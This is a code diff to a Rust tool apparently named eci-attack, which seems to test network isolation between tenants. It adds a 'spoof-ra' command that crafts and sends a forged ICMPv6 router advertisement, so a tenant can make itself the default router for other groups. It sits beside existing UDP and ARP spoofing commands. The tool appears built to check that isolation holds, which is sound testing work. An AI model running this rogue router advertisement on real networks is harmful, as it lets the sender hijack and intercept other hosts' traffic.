@@ -20,8 +20,8 @@
 //!   group's and the host's namespaces by `setns`; prints `name: ok` or `name: <errno>`.
 //! - `eci-attack netadmin`: without `CAP_NET_ADMIN`, tries to delete its security-group
 //!   table over nfnetlink and to get a network namespace of its own (see `netadmin`).
-//! - `eci-attack spoof-udp …`, `spoof-arp …`: writes forged frames (another source IP
-//!   or MAC, gratuitous ARP) below netfilter with an `AF_PACKET` socket (`CAP_NET_RAW`).
+//! - `eci-attack spoof-udp …`, `spoof-arp …`, `spoof-ra PREFIX`: writes forged frames
+//!   (another source IP or MAC, gratuitous ARP, a router advertisement) below netfilter with an `AF_PACKET` socket (`CAP_NET_RAW`).
 //! - `eci-attack udp-listen PORT`: prints each datagram and its source.
 
 use std::collections::{HashMap, HashSet};
@@ -57,6 +57,7 @@ fn main() {
         Some("spoof-udp") if args.len() == 7 => spoof_udp(&args[1..]),
         Some("spoof-arp") if args.len() >= 2 => spoof_arp(&args[1..]),
         Some("udp-listen") if args.len() == 2 => udp_listen(&args[1]),
+        Some("spoof-ra") if args.len() == 2 => spoof_ra(&args[1]),
         _ => {
             eprintln!("usage: eci-attack watch OUT SECONDS | syscalls | fds | whoami | userns");
             std::process::exit(2);
@@ -710,5 +711,58 @@ fn udp_listen(port: &str) {
             );
             let _ = std::io::stdout().flush();
         }
+    }
+}
+
+/// eth0's IPv6 link-local address, from /proc/net/if_inet6.
+fn own_link_local() -> std::net::Ipv6Addr {
+    let t = std::fs::read_to_string("/proc/net/if_inet6").expect("if_inet6");
+    t.lines()
+        .filter(|l| l.ends_with(" eth0") && l.starts_with("fe80"))
+        .find_map(|l| u128::from_str_radix(l.split(' ').next()?, 16).ok())
+        .map(std::net::Ipv6Addr::from)
+        .expect("eth0 has a link-local address")
+}
+
+/// `eci-attack spoof-ra PREFIX`: an ICMPv6 router advertisement to all nodes from eth0's
+/// link-local address, offering a default route and SLAAC prefix PREFIX/64: what a
+/// tenant sends to become the other groups' router. Prints `sent` or the errno.
+fn spoof_ra(prefix: &str) {
+    let (mac, _) = own_eth0();
+    let src = own_link_local();
+    let dst: std::net::Ipv6Addr = "ff02::1".parse().expect("ff02::1");
+    let prefix: std::net::Ipv6Addr = prefix.parse().expect("PREFIX");
+    // RA: type, code, checksum, hop limit, flags, router lifetime, reachable, retrans.
+    let mut icmp = vec![134, 0, 0, 0, 64, 0];
+    icmp.extend_from_slice(&1800u16.to_be_bytes());
+    icmp.extend_from_slice(&[0; 8]);
+    // Prefix information: on-link and autonomous, valid 1 day, preferred 4 h.
+    icmp.extend_from_slice(&[3, 4, 64, 0xc0]);
+    icmp.extend_from_slice(&86400u32.to_be_bytes());
+    icmp.extend_from_slice(&14400u32.to_be_bytes());
+    icmp.extend_from_slice(&[0; 4]);
+    icmp.extend_from_slice(&prefix.octets());
+    // Source link-layer address.
+    icmp.extend_from_slice(&[1, 1]);
+    icmp.extend_from_slice(&mac);
+    let mut pseudo = Vec::new();
+    pseudo.extend_from_slice(&src.octets());
+    pseudo.extend_from_slice(&dst.octets());
+    pseudo.extend_from_slice(&(icmp.len() as u32).to_be_bytes());
+    pseudo.extend_from_slice(&[0, 0, 0, 58]);
+    pseudo.extend_from_slice(&icmp);
+    let c = ipv4_checksum(&pseudo);
+    icmp[2..4].copy_from_slice(&c.to_be_bytes());
+    let mut f = vec![0x33, 0x33, 0, 0, 0, 1];
+    f.extend_from_slice(&mac);
+    f.extend_from_slice(&[0x86, 0xdd, 0x60, 0, 0, 0]);
+    f.extend_from_slice(&(icmp.len() as u16).to_be_bytes());
+    f.extend_from_slice(&[58, 255]);
+    f.extend_from_slice(&src.octets());
+    f.extend_from_slice(&dst.octets());
+    f.extend_from_slice(&icmp);
+    match send_frames(&[f]) {
+        Ok(()) => println!("sent"),
+        Err(e) => println!("spoof-ra: {}", errno_of(&e)),
     }
 }
